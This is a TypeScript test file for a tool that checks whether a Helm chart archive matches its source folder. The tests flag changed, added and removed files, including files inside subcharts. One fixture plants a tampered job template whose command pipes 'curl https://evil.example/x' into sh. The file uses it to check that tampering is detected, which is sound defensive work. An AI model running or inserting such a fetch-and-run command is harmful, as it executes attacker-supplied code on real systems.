// Is an archive what packaging its chart directory writes now? Archives packaged from the source (by us,
// at other times, by a plain tar) compare identical; archives packaged from a modified copy name the
// files that differ.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { compareArchiveWithSource, describeDifferences, MAX_LISTED_DIFFERENCES, type ArchiveComparison } from '../../server/src/provenance/archiveVsSource';
import { packageChart } from '../../server/src/provenance/package';
import { scratch } from '../support/tools';

/** Writes `files` under `root` (null: no file). */
function writeTree(root: string, files: Record<string, string | null>): void {
  for (const [rel, content] of Object.entries(files)) {
    const file = path.join(root, rel);
    if (content === null) {
      fs.rmSync(file, { force: true });
      continue;
    }
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
  }
}

/** A repository folder `<repo>/charts/<name>/` holding a small chart; answers the chart folder. */
function makeChart(name = 'prebuilt', extra: Record<string, string | null> = {}): string {
  const root = path.join(scratch('archive-vs-source-'), 'charts', name);
  writeTree(root, {
    'Chart.yaml': `apiVersion: v2\nname: ${name}\nversion: 0.1.0\ndescription: A chart\n`,
    'values.yaml': 'replicas: 1\n',
    'templates/job.yaml': 'kind: Job\nspec:\n  command: ["echo", "hello"]\n',
    ...extra,
  });
  return root;
}

/** A copy of the chart folder elsewhere (same folder name, so the same chart), changed by `changes`. */
function modifiedCopy(chartDir: string, changes: Record<string, string | null>): string {
  const copy = path.join(scratch('archive-vs-source-copy-'), path.basename(chartDir));
  fs.cpSync(chartDir, copy, { recursive: true });
  writeTree(copy, changes);
  return copy;
}

/** Packages `sourceDir` into the folder next to `chartDir` (where the repository ships its archive). */
async function packageNextTo(chartDir: string, sourceDir: string, sourceDateEpoch?: number): Promise<string> {
  const packaged = await packageChart(sourceDir, { outDir: path.dirname(chartDir), sourceDateEpoch });
  assert.ok(packaged.ok, !packaged.ok ? packaged.error.message : '');
  return packaged.value.archivePath;
}

async function compare(archive: string, chartDir: string): Promise<ArchiveComparison> {
  const compared = await compareArchiveWithSource(archive, chartDir);
  assert.ok(compared.ok, !compared.ok ? compared.error.message : '');
  return compared.value;
}

function assertIdentical(c: ArchiveComparison): void {
  assert.deepEqual(c.differences, [], describeDifferences(c));
  assert.equal(c.total, 0);
  assert.ok(c.files > 0);
}

describe('an archive packaged from a modified copy', () => {
  test('the changed template is named, and nothing else', async () => {
    const chartDir = makeChart();
    const copy = modifiedCopy(chartDir, { 'templates/job.yaml': 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n' });
    const archive = await packageNextTo(chartDir, copy);
    const c = await compare(archive, chartDir);
    assert.deepEqual(c.differences, [{ path: 'templates/job.yaml', kind: 'changed' }]);
    assert.equal(c.total, 1);
    assert.equal(describeDifferences(c), '1 file differs: templates/job.yaml (differs)');
  });

  test('files only in the archive, only in the source, and a Chart.yaml that says something else', async () => {
    const chartDir = makeChart('demo', { 'templates/cm.yaml': 'kind: ConfigMap\n' });
    const copy = modifiedCopy(chartDir, {
      'templates/extra.yaml': 'kind: Pod\n',
      'templates/cm.yaml': null,
      'Chart.yaml': 'apiVersion: v2\nname: demo\nversion: 0.1.0\ndescription: Another chart\n',
    });
    const c = await compare(await packageNextTo(chartDir, copy), chartDir);
    assert.deepEqual(c.differences, [
      { path: 'Chart.yaml', kind: 'changed' },
      { path: 'templates/cm.yaml', kind: 'only-in-source' },
      { path: 'templates/extra.yaml', kind: 'only-in-archive' },
    ]);
    assert.match(describeDifferences(c), /^3 files differ: Chart\.yaml \(differs\), templates\/cm\.yaml \(not in the archive\), templates\/extra\.yaml \(only in the archive\)$/);
  });

  test('a change inside a subchart, in a folder and in a subchart archive, is named by its path in the archive', async () => {
    const lib = makeChart('lib');
    const libArchive = path.join(scratch('lib-out-'), 'lib-0.1.0.tgz');
    assert.ok((await packageChart(lib, { outDir: path.dirname(libArchive) })).ok);
    const chartDir = makeChart('parent', {
      'Chart.yaml': 'apiVersion: v2\nname: parent\nversion: 0.1.0\ndependencies:\n  - name: lib\n    version: 0.1.0\n    repository: file://../lib\n',
      'charts/child/Chart.yaml': 'apiVersion: v2\nname: child\nversion: 0.2.0\n',
      'charts/child/templates/svc.yaml': 'kind: Service\n',
    });
    fs.copyFileSync(libArchive, path.join(chartDir, 'charts', 'lib-0.1.0.tgz'));
    // The copy carries another child template and a lib archive built from a changed lib.
    const evilLib = modifiedCopy(lib, { 'templates/job.yaml': 'kind: Job # changed\n' });
    const copy = modifiedCopy(chartDir, { 'charts/child/templates/svc.yaml': 'kind: Service # changed\n' });
    const evilLibOut = scratch('evil-lib-');
    assert.ok((await packageChart(evilLib, { outDir: evilLibOut })).ok);
    fs.copyFileSync(path.join(evilLibOut, 'lib-0.1.0.tgz'), path.join(copy, 'charts', 'lib-0.1.0.tgz'));
    const c = await compare(await packageNextTo(chartDir, copy), chartDir);
    assert.deepEqual(c.differences, [
      { path: 'charts/child/templates/svc.yaml', kind: 'changed' },
      { path: 'charts/lib/templates/job.yaml', kind: 'changed' },
    ]);
  });

  test('the listed differences are capped, the count is not', async () => {
    const many: Record<string, string> = {};
    for (let i = 0; i < MAX_LISTED_DIFFERENCES + 20; i++) many[`templates/t${String(i).padStart(3, '0')}.yaml`] = `kind: ConfigMap # ${i}\n`;
    const chartDir = makeChart('many', many);
    const changed = Object.fromEntries(Object.keys(many).map((k) => [k, 'kind: Secret\n']));
    const c = await compare(await packageNextTo(chartDir, modifiedCopy(chartDir, changed)), chartDir);
    assert.equal(c.total, MAX_LISTED_DIFFERENCES + 20);
    assert.equal(c.differences.length, MAX_LISTED_DIFFERENCES);
    assert.match(describeDifferences(c, 2), /^70 files differ: templates\/t000\.yaml \(differs\), templates\/t001\.yaml \(differs\), and 68 more$/);
  });
});

describe('an archive of the source as it is', () => {
  test('packaged by us: identical, and so after the files were touched and with other archive times', async () => {
    const chartDir = makeChart();
    const archive = await packageNextTo(chartDir, chartDir, 1_000_000_000);
    const first = await compare(archive, chartDir);
    assertIdentical(first);
    const later = new Date('2031-02-03T04:05:06Z');
    for (const f of ['Chart.yaml', 'values.yaml', 'templates/job.yaml']) fs.utimesSync(path.join(chartDir, f), later, later);
    assertIdentical(await compare(archive, chartDir));
    // Another time in every header: other bytes, the same files.
    const other = await packageNextTo(chartDir, chartDir, 1_700_000_000);
    const second = await compare(other, chartDir);
    assertIdentical(second);
    assert.notEqual(second.sha256, first.sha256);
  });

  test('a chart with a subchart folder, a subchart archive, Chart.lock and a .helmignore: identical', async () => {
    const lib = makeChart('lib');
    const chartDir = makeChart('parent', {
      'Chart.yaml': 'apiVersion: v2\nname: parent\nversion: 0.1.0\ndependencies:\n  - name: lib\n    version: 0.1.0\n    repository: file://../lib\n',
      'Chart.lock': 'dependencies:\n- name: lib\n  repository: file://../lib\n  version: 0.1.0\ndigest: sha256:0000\ngenerated: "2024-01-02T03:04:05Z"\n',
      'charts/child/Chart.yaml': 'apiVersion: v2\nname: child\nversion: 0.2.0\n',
      'charts/child/templates/svc.yaml': 'kind: Service\n',
      '.helmignore': '*.bak\nsecrets/\n',
      'notes.bak': 'not packaged\n',
      'secrets/key.pem': 'not packaged either\n',
    });
    assert.ok((await packageChart(lib, { outDir: path.join(chartDir, 'charts') })).ok);
    const archive = await packageNextTo(chartDir, chartDir);
    const c = await compare(archive, chartDir);
    assertIdentical(c);
    // What was compared: the subchart archive unpacked, the ignored files left out.
    const listed = execFileSync('tar', ['tzf', archive], { encoding: 'utf8' });
    assert.match(listed, /parent\/charts\/lib\/templates\/job\.yaml/);
    assert.doesNotMatch(listed, /notes\.bak|secrets\//);
    // An ignored file changing changes nothing.
    fs.writeFileSync(path.join(chartDir, 'notes.bak'), 'changed\n');
    assertIdentical(await compare(archive, chartDir));
  });

  test('Chart.yaml key order, comments and empty fields do not count; what it says does', async () => {
    const chartDir = makeChart('ordered', { 'Chart.yaml': 'apiVersion: v2\nname: ordered\nversion: 0.1.0\ndescription: A chart\nkeywords: [a, b]\n' });
    const archive = await packageNextTo(chartDir, chartDir);
    fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), '# reordered\nkeywords:\n  - a\n  - b\ndescription: "A chart"\nicon: ""\nversion: 0.1.0\nname: ordered\napiVersion: v2\n');
    assertIdentical(await compare(archive, chartDir));
    fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), 'apiVersion: v2\nname: ordered\nversion: 0.1.0\ndescription: A chart\nkeywords: [b, a]\n');
    assert.deepEqual((await compare(archive, chartDir)).differences, [{ path: 'Chart.yaml', kind: 'changed' }]);
  });

  test('a plain tar of the chart folder (Chart.yaml as written, directory entries, real times): identical', async () => {
    const chartDir = makeChart('plain', { 'Chart.yaml': 'name: plain\nversion: 0.1.0\napiVersion: v2\ndescription: unsorted\n' });
    const archive = path.join(path.dirname(chartDir), 'plain-0.1.0.tgz');
    execFileSync('tar', ['czf', archive, '-C', path.dirname(chartDir), 'plain']);
    assertIdentical(await compare(archive, chartDir));
  });
});

describe('what cannot be compared is an error with a code', () => {
  test('an archive that is not a regular file, and a damaged one', async () => {
    const chartDir = makeChart();
    const folder = path.join(path.dirname(chartDir), 'prebuilt-0.1.0.tgz');
    fs.mkdirSync(folder);
    const dir = await compareArchiveWithSource(folder, chartDir);
    assert.equal(!dir.ok && dir.error.code, 'archive-invalid');
    fs.rmdirSync(folder);
    fs.writeFileSync(folder, 'not gzip');
    const junk = await compareArchiveWithSource(folder, chartDir);
    assert.equal(!junk.ok && junk.error.code, 'archive-invalid');
  });
});
